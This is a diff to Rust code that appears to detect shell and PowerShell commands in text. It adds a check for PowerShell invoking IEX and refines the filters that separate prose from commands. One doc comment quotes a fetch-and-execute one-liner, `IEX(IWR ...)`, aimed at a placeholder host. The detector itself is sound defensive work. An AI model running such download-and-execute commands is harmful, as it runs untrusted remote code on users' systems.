@@ -54,6 +54,7 @@ pub(super) fn whole(text: &str) -> Option<usize> {
         rest.starts_with([' ', '\t', '+', '$', '<', '>', '%', '{'])
             && has_arguments(&found, strength, trimmed)
             || runs_brackets(name, rest)
+            || runs_powershell(name, rest)
     };
     is_line.then_some(text.len())
 }
@@ -107,8 +108,9 @@ fn has_arguments(found: &Word, strength: Strength, trimmed: &str) -> bool {
     let mut words = trimmed.split([' ', '\t', '+']).filter(|word| !word.is_empty());
     let (first, second) = (words.next().unwrap_or(""), words.next().unwrap_or(""));
     let n_words = trimmed.split_whitespace().count();
-    let is_sentence =
-        n_words > 3 && trimmed.split_whitespace().any(is_prose) && !is_switched(first, strength, trimmed);
+    let is_sentence = n_words > 3
+        && trimmed.split_whitespace().any(|word| is_prose(word) || phrase::says(word))
+        && !is_switched(first, strength, trimmed);
     if is_prose(first) || is_sentence {
         return false;
     }
@@ -136,7 +138,11 @@ fn has_arguments(found: &Word, strength: Strength, trimmed: &str) -> bool {
         Strength::Word => {
             (is_option(first) || is_path(first)) && n_words <= 12
                 || is_option(second) && n_words <= 6 && first.len() <= 12
-                || n_words <= 2 && found.name == "net" && is_usual_argument("net", first)
+                || n_words <= 2
+                    && found.name == "net"
+                    && is_usual_argument("net", first)
+                    && !is_prose(second)
+                    && !phrase::says(second)
                 || found.name == "alias" && first.contains('=')
                 || runs_another(&found.name)
                     && program(program_name(first)).is_some_and(|s| s != Strength::Word)
@@ -153,6 +159,15 @@ fn runs_brackets(name: &str, rest: &str) -> bool {
     let is_command = is_cmdlet(&first) || program(&first).is_some_and(|known| known != Strength::Word);
     matches!(name, "iex" | "invoke-expression")
         && (is_command || rest.starts_with('(') && told::reaches_out(inside))
+}
+
+/// `powershell.exe IEX(IWR x.example/a)`: the same, told to a PowerShell.
+fn runs_powershell(name: &str, rest: &str) -> bool {
+    let told = rest.trim_start_matches([' ', '\t', '+', '"', '\'']);
+    let end = told.find([' ', '+', '(']).unwrap_or(told.len());
+    matches!(name, "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe")
+        && told.len() < rest.len()
+        && runs_brackets(&told[..end].to_ascii_lowercase(), &told[end..])
 }
 
 /// `photo.jpg`, `(1).png`: a document without a path.
@@ -172,6 +187,7 @@ fn is_version(word: &str) -> bool {
 /// `cscli alerts list`: plain words, of which one is an order.
 fn has_order(arguments: &str) -> bool {
     arguments.split_whitespace().any(|word| ORDERS.contains(&word))
+        && !arguments.split_whitespace().any(phrase::says)
 }
 
 /// `sudo id`, `nohup who`: a program that runs the one that it is told.
